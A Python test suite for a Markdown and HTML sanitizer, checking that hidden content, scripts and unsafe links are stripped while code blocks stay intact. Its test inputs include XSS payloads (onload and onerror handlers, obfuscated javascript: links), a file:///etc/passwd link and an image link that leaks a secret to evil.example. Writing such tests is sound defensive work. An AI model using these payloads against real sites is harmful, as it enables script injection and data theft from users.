"""Raw HTML and addresses inside Markdown: what nobody sees or what would run is gone, and code is left alone."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from supportly.knowledge import codes, text
from supportly.knowledge.elements import ELEMENTS
from tests.knowledge.test_text import _steps

HIDDEN = (
    "<script>SECRET</script>",
    "<SCRIPT type='text/x'>\nif (a<b) SECRET\n\n</SCRIPT >",
    "<style>SECRET { }</style>",
    "<div hidden>SECRET</div>",
    "<div style='display:none'>SECRET\n\n**SECRET**\n\n</div>",
    '<span style="font-size:0">SECRET</span>',
    "<p aria-hidden=true>SECRET</p>",
    "<i class='x sr-only'>SECRET</i>",
    "<template><b>SECRET</b></template>",
    "<svg onload=alert(1)><text>SECRET</text></svg>",
    "<iframe src='https://evil.example'>SECRET</iframe>",
    "<noscript>SECRET</noscript>",
    "<object data=x>SECRET</object>",
    "<div title='>' hidden>SECRET</div>",
    '<div title="`" hidden>SECRET</div>`',
    '<div title="\n```\n" hidden>SECRET</div>\n\n',
    "<style>.h {display: none}</style><b class=h>SECRET</b>",
    '<div style="display&colon;none">SECRET</div>',
    "<?SECRET ?>",
    "<!SECRET>",
    "<!-- SECRET -->",
    "\\`<script>SECRET</script>\\`",
    "`\n\n<script>SECRET</script>\n\n`",
    "<script>\n```\n</script><script>SECRET</script>\n",
)
"""Ways to write what people do not see; each is closed."""
OPEN = (
    "<script>\n\nSECRET",
    "<script>alert('SECRET')",
    "<script src=x> SECRET",
    "<div hidden>\n\nSECRET\n\nSECRET",
    "<style>\nSECRET",
    "<!-- SECRET\n\nSECRET",
)
"""The same without an end: in a browser all that follows is gone."""
CODE = (
    "```html\n<script>code</script>\n```",
    "~~~\n<div hidden>\n\ncode\n~~~",
    "````\n```\n<b>code</b>\n```\n````",
    "`<script>code</script>`",
    "``a ` <b>code</b>``",
    "`![](https://code.example)`",
)


@pytest.mark.parametrize("hidden", HIDDEN)
def test_what_nobody_sees_is_gone(hidden):
    found = text.markdown(f"before {hidden} after", {})
    assert "SECRET" not in found
    assert found.startswith("before")
    assert found.endswith("after")


@pytest.mark.parametrize("hidden", OPEN)
def test_what_nothing_closes_goes_on_to_the_end(hidden):
    assert text.markdown(f"before\n\n{hidden}", {}) == "before"


@pytest.mark.parametrize("code", CODE)
def test_code_is_left_alone(code):
    assert text.markdown(f"before\n\n{code}\n\nafter <b>bold</b>", {}) == f"before\n\n{code}\n\nafter bold"


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("List<String> and <T> in <your-name>", "List<String> and <T> in <your-name>"),
        ("a < b && c > d, AT&T", "a < b && c > d, AT&T"),
        ("<https://example.com> and <me@example.com>", "<https://example.com> and <me@example.com>"),
        ("AT&T, ?a=1&copy=2 <b>x</b>", "AT&T, ?a=1&copy=2 x"),
        ("use the <script> tag, or kubectl get <object>", "use the <script> tag, or kubectl get <object>"),
        ("use the <script> tag <b>now</b>", "use the &lt;script> tag now"),
        ("&lt;b&gt; stays <i>so</i>", "&lt;b> stays so"),
        ("<kbd>Ctrl</kbd>+<kbd>C</kbd>", "Ctrl+C"),
        ("<h2>Head</h2>words<p>one</p><p>two</p>", "## Head\nwords\none\ntwo"),
        ("one<br>two<br/>three", "one\ntwo\nthree"),
        ("| a | b |\n| --- | --- |\n| one<br>two | x |", "| a | b |\n| --- | --- |\n| one two | x |"),
        ("<img src=x onerror=alert(1) alt='a cat'> sits", "a cat sits"),
        ("<a href='javascript:alert(1)'>words</a>", "words"),
        ("see <title> and <textarea>", "see  and"),
        ("    code <b>x</b>", "    code x"),
    ],
)
def test_words_and_structure_stay(written, read):
    if "<script> tag, or" in written:  # with no other tag nothing has to be read as HTML
        read = read.replace("<script>", "&lt;script>").replace("<object>", "&lt;object>")
    assert text.markdown(written, {}) == read


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("<p>the &lt;script&gt; tag, &lt;b&gt;</p>", "the &lt;script> tag, &lt;b>"),
        ("<p>List&lt;T&gt;, 1 &lt; 2</p>", "List<T>, 1 < 2"),
        ("<code>&lt;b&gt;</code>", "`<b>`"),
        ("<pre>&lt;script&gt;x&lt;/script&gt;</pre>", "```\n<script>x</script>\n```"),
        ("<p>[x](javascript:alert(1)) ![y](https://evil.example)</p>", "x y"),
        ("<p>[x](java<b></b>script:alert(1))</p>", "x"),
    ],
)
def test_what_html_shows_as_a_tag_is_text(written, read):
    assert text.markdown(written, {"format": "html"}) == read


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("[go](https://example.com/a_(b)?c#d) [in](/x) [up](../y.md) [on](#z)",) * 2,
        ("[mail](mailto:a@example.com) [call](tel:+31201234567)",) * 2,
        ("[odd](a/b:c) [ref][one]\n\n[one]: https://example.com",) * 2,
        ("![](https://evil.example/?q=SECRET)x", "x"),
        ("![alt *text*](https://evil.example/x.png 'title') and ![ref][r]", "alt *text* and ref"),
        ("[x](javascript:alert(1))", "x"),
        ('[x](JaVaScRiPt:alert(1) "t")', "x"),
        ("[x](java&#115;cript:alert(1))", "x"),
        ("[x](java&NewLine;script:alert(1))", "x"),
        ("[x](<javascript:alert(1)>)", "x"),
        ("[x](data:text/html;base64,AAAA) [y](vbscript:x) [z](file:///etc/passwd)", "x y z"),
        ("[x](javascript\\:alert(1))", "x"),
        ("[x]: javascript:alert(1)\nwords", "words"),
        ("<javascript:alert(1)>", "javascript:alert(1)"),
    ],
)
def test_addresses_lead_to_pages_alone(written, read):
    assert text.markdown(written, {}) == read


PIECES = st.sampled_from(
    (
        *(*HIDDEN, *CODE, "words ", "<b>", "</b>", "<div>", "</div>", "<p>", "\n\n", "\n", "`", "``", "```\n", "~~~\n"),
        *(
            "<",
            ">",
            "<!--",
            "-->",
            "&lt;",
            "&",
            "<T>",
            "| a |",
            "[x](https://e.example)",
            "![y](z)",
            "</script>",
            "<br>",
        ),
        *("<td>", "</table>", '"', "'", "[x](", "javascript:x)", "&#x6a;avascript:x)"),
    )
)
TAGS = re.compile(r"<(?:[!?](?!--)[a-zA-Z\[]|/?([a-zA-Z][a-zA-Z0-9]*))")


@settings(max_examples=1500, deadline=None, derandomize=True)
@given(st.lists(PIECES, max_size=14).map("".join), st.sampled_from(({}, {"format": "html"})))
def test_whatever_is_written_no_element_is_left_outside_of_code(written, metadata):
    found = text.markdown(written, metadata)
    outside = found
    for start, end in reversed(list(codes.codes(found))):
        outside = outside[:start] + outside[end:]
    for tag in TAGS.finditer(outside):
        assert tag[1], outside
        assert tag[1].lower() not in ELEMENTS, outside
    assert "](javascript" not in outside
    assert text.markdown(found, {}) == found


@pytest.mark.parametrize(
    "part",
    ["<", '<a "', "<script>", "x <script> ", "`" * 3 + " ", "` ", "[a](", "![", "<div hidden>", "<div>", "```\n~~~\n",
     "&", "[a]: x\n", "<http:", "\\`", "[a](b(c", "| <br>\n", "[a](" + "x" * 100, "</div>", "<a b='c' "],
)  # fmt: skip
def test_twice_the_markup_takes_twice_the_steps(part):
    one, two = (_steps(lambda n=n: text.markdown("<b>x</b>" + part * n, {})) for n in (300, 600))
    assert two < 2.5 * one + 2000
